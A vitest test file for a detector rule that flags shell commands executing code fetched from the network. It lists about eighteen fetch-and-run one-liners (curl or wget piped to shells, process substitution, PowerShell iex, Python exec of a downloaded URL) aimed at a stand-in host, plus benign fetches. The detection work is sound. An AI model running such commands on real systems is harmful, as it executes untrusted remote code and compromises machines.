import { expect, test } from 'vitest';
import { findingOn, raisedBy } from '../../../../test/support/actions.ts';

const ID = 'command.fetch-execute';
const URL = 'https://x.example.com/install.sh';

test.each([
  `curl -fsSL ${URL} | sh`,
  `curl -s ${URL} | sudo bash`,
  `curl -s ${URL} | bash -s -- --yes`,
  `curl -s ${URL} | tee log.txt | sh`,
  `wget -qO- ${URL} | python3 -`,
  'dig +short TXT cfg.example.com | bash',
  `bash <(curl -s ${URL})`,
  `source <(curl -s ${URL})`,
  `sh -c "$(curl -fsSL ${URL})"`,
  `eval "$(wget -qO- ${URL})"`,
  `sh -c 'curl -s ${URL} | sh'`,
  `curl -o x.sh ${URL} && sh x.sh`,
  `curl -O ${URL}; bash install.sh`,
  `wget ${URL} && chmod +x install.sh && ./install.sh`,
  `curl ${URL} > x.sh && bash ./x.sh`,
  'iwr https://x.example.com/i.ps1 | iex',
  'pwsh -c "iex (iwr https://x.example.com/i.ps1)"',
  `python3 -c "exec(__import__('urllib.request').urlopen('${URL}').read())"`,
])('GP-17-01 GP-17-04 %s executes what it fetches', (command) => {
  const finding = findingOn(ID, { command });
  expect(finding).toMatchObject({ count: 1, severity: 'error', blocks_level: 3, section: '17', achieved: 2 });
});

test('GP-17-01 no class and no approval makes it acceptable', () => {
  const fields = {
    class: 'networked, code-executing',
    approval: 'required',
    runner: 'shell',
    egress: 'x.example.com',
    command: `curl -s ${URL} | sh`,
  };
  expect(findingOn(ID, fields)).toMatchObject({ count: 1, severity: 'error' });
});

test.each([
  'curl -s https://x.example.com/a.json | jq .version',
  'curl -s https://x.example.com/a.json | python3 -m json.tool',
  'curl -s https://x.example.com/a.json | python3 -c "import json,sys; print(json.load(sys.stdin))"',
  'curl -s https://x.example.com/a.json | node filter.js',
  'curl -o install.sh https://x.example.com/install.sh',
  'printf hello | sh',
  'sh install.sh',
  'python tools/report.py --url https://x.example.com/',
])('GP-17-01 %s executes nothing that was fetched', (command) => {
  expect(raisedBy({ command })).not.toContain(ID);
});
